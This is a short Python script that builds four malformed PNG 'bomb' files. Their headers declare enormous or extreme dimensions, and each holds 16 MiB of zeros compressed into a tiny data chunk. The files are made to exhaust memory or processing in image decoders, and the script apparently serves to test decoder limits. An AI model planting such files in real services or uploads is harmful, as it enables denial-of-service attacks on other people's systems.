import struct
import zlib


def chunk(kind, content):
    return struct.pack(">I", len(content)) + kind + content + struct.pack(">I", zlib.crc32(kind + content))


for number, (width, height) in enumerate([(100_000, 100_000), (7000, 7000), (1, 2**31 - 1), (2**31 - 1, 1)]):
    packer = zlib.compressobj(1)
    rows = b"".join(packer.compress(bytes(1 << 20)) for _ in range(16)) + packer.flush()
    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    with open(f"bomb{number}.png", "wb") as file:
        file.write(b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", rows) + chunk(b"IEND", b""))
